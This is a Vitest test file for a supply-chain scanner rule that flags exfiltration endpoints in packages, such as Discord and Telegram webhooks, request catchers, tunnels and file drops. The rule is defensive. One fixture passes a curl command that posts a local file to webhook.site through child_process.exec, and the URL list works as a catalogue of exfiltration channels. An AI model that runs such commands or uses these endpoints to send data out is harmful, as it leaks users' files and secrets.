import { describe, expect, it } from 'vitest';
import { at, call, packageFacts, str, url } from '../rule-test-kit.js';
import { exfilWebhookDomain as rule } from './exfil-webhook-domain.js';

const scan = (value: string, name = 'fixture-package') =>
  rule.run(packageFacts({ manifest: { name }, code: [url(value, at('index.js', 4))] }));

describe('exfil-webhook-domain', () => {
  it.each([
    ['https://discord.com/api/webhooks/123/FIXTURE-TOKEN', 'Discord webhook', 'high'],
    ['https://discordapp.com/api/v10/webhooks/1/x', 'Discord webhook', 'high'],
    ['https://api.telegram.org/botFIXTURE:TOKEN/sendMessage', 'Telegram bot API', 'high'],
    ['https://webhook.site/00000000-0000-0000-0000-000000000000', 'request catcher', 'high'],
    ['https://eo1234.m.pipedream.net/', 'request catcher', 'high'],
    ['https://x.oast.fun/', 'request catcher', 'high'],
    ['https://abc.ngrok-free.app/collect', 'tunnel', 'medium'],
    ['https://file.io/?expires=1d', 'file drop', 'medium'],
    ['https://content.dropboxapi.com/2/files/upload', 'Dropbox API', 'medium'],
    ['https://discord.com.invalid/api/webhooks/0/FIXTURE', 'Discord webhook', 'high'],
  ])('flags %s as a %s', (value, name, confidence) => {
    const findings = scan(value);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.message).toContain(name);
    expect(findings[0]?.confidence).toBe(confidence);
  });

  it.each([
    'https://discord.com/invite/fixture',
    'https://discord.com/api/webhooks/',
    'https://core.telegram.org/bots/api',
    'https://notwebhook.site/',
    'https://www.dropbox.com/s/fixture',
  ])('leaves %s alone', (value) => {
    expect(scan(value)).toEqual([]);
  });

  it('exempts the SDK of the service itself', () => {
    expect(scan('https://content.dropboxapi.com/2/files/upload', 'dropbox')).toEqual([]);
    expect(scan('https://x.ngrok.io/', '@ngrok/ngrok')).toEqual([]);
  });

  it('finds URLs inside commands and decoded strings', () => {
    const facts = packageFacts({
      code: [
        call('child_process.exec', 'process', at('a.js', 1), [
          'curl -d @/tmp/x https://webhook.site/fixture',
        ]),
        str('https://api.telegram.org/botX/sendDocument', at('a.js', 2), 'base64'),
      ],
    });
    expect(rule.run(facts).map((f) => f.line)).toEqual([1, 2]);
  });
});
